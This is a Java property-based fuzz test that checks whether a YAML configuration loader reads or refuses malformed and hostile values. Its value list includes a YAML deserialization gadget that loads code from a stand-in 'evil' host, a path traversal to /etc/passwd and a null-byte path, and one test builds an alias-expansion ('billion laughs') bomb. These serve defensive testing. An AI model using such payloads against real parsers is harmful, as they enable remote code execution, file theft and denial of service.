package dev.retort.console.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.retort.capture.fuzz.Damage;
import dev.retort.capture.fuzz.Trial;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tag;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.apache.commons.io.FileUtils;

/** Configurations that are almost ones. */
@Tag("fault")
@Tag("fault-bad-input")
class ConfigFuzzTest {
  private static final Trial CONFIGURATIONS = Trial.of("retort.yaml", ConfigException.class);
  private static final Pattern COMMENTED_OUT = Pattern.compile("(?m)^#(?=\\S|  )");
  private static final Pattern SECTION = Pattern.compile("\n(?=[a-z]\\w*:)");

  private static final List<String> VALUES =
      List.of(
          "",
          "null",
          "~",
          "-1",
          "0",
          "1e400",
          ".nan",
          "99999999999999999999",
          "true",
          "[]",
          "{}",
          "[[[[[]]]]]",
          "{a: {a: {a: 1}}}",
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]",
          "!!binary abc",
          "*nobody",
          "&a [*a]",
          "env:",
          "file:/dev/zero\u0000",
          "file:../../etc/passwd",
          "'a\u0000b'",
          "2026-01-01",
          "0x7fffffffffffffff",
          "\"\\ud800\"");

  private static Path folder;

  @BeforeContainer
  static void makeFolder() throws IOException {
    folder = Files.createTempDirectory("retort-config");
  }

  @AfterContainer
  static void report() throws IOException {
    FileUtils.deleteDirectory(folder.toFile());
    CONFIGURATIONS.report();
  }

  @Property(seed = "1")
  void anyBytesAreReadOrRefused(@ForAll("damaged") byte[] yaml) throws IOException {
    read(yaml);
  }

  @Property(seed = "1")
  void anyValueOfAnyKeyIsReadOrRefused(@ForAll("replaced") String yaml) throws IOException {
    read(yaml.getBytes(StandardCharsets.UTF_8));
  }

  @Example
  void aliasesThatMultiplyAreRefusedBeforeTheyAreAMemorysWorth() throws IOException {
    StringBuilder laughs = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
    for (int i = 1; i < 12; i++) {
      String before = "*a" + (i - 1);
      laughs.append("a%d: &a%d [%s]\n".formatted(i, i, (before + ",").repeat(9) + before));
    }
    read(laughs.toString().getBytes(StandardCharsets.UTF_8));
  }

  @Example
  void timesThatLastForEverAreRefused() throws IOException {
    for (String section :
        List.of(
            "log: {rollMinutes: 9223372036854775807}",
            "gateway: {clientIdleSeconds: 9223372036854775807}",
            "upstreams: {a: {url: 'http://a/v1', idleSeconds: 99999999999}}")) {
      Path file = Files.writeString(folder.resolve("retort.yaml"), section);
      assertThatThrownBy(() -> RetortConfig.load(file, Map.of()))
          .as(section)
          .isInstanceOf(ConfigException.class);
    }
  }

  private static void read(byte[] yaml) throws IOException {
    Path file = Files.write(folder.resolve("retort.yaml"), yaml);
    CONFIGURATIONS.ask(() -> RetortConfig.load(file, Map.of("KEY", "0123456789abcdef")));
  }

  @Provide
  Arbitrary<byte[]> damaged() throws IOException {
    return Damage.ofTexts(sections());
  }

  /** The value behind one of a section's colons is another. */
  @Provide
  Arbitrary<String> replaced() throws IOException {
    List<String> sections = sections();
    return Arbitraries.randomValue(
        random -> {
          String section = sections.get(random.nextInt(sections.size()));
          List<Integer> colons = new ArrayList<>();
          for (int at = section.indexOf(": "); at >= 0; at = section.indexOf(": ", at + 1)) {
            colons.add(at);
          }
          if (colons.isEmpty()) {
            return section;
          }
          int from = colons.get(random.nextInt(colons.size())) + 2;
          int until = from;
          while (until < section.length() && ",}\n".indexOf(section.charAt(until)) < 0) {
            until++;
          }
          String value = VALUES.get(random.nextInt(VALUES.size()));
          return section.substring(0, from) + value + section.substring(until);
        });
  }

  /** The reference that {@code retort init} writes, a section each, with nothing commented out. */
  private static List<String> sections() throws IOException {
    try (InputStream in =
        RetortConfig.class.getResourceAsStream("/dev/retort/console/retort.yaml")) {
      String reference = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      String whole = COMMENTED_OUT.matcher(reference).replaceAll("");
      List<String> sections = List.of(SECTION.split(whole, -1));
      assertThat(sections).hasSizeGreaterThan(8);
      return sections;
    }
  }
}
